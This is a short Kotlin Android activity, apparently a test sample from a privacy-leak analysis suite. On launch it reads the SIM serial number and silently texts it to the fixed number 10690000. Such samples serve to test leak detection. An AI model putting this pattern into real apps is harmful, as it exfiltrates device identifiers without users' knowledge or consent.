package cn.privlens.suite.property_below_asked

import android.app.Activity
import android.content.Context
import android.os.Bundle
import android.telephony.SmsManager
import android.telephony.TelephonyManager

class Main : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        val ticket = PublicTicket((getSystemService(Context.TELEPHONY_SERVICE) as TelephonyManager).simSerialNumber.orEmpty())
        SmsManager.getDefault().sendTextMessage("10690000", null, ticket.code, null, null)
    }
}
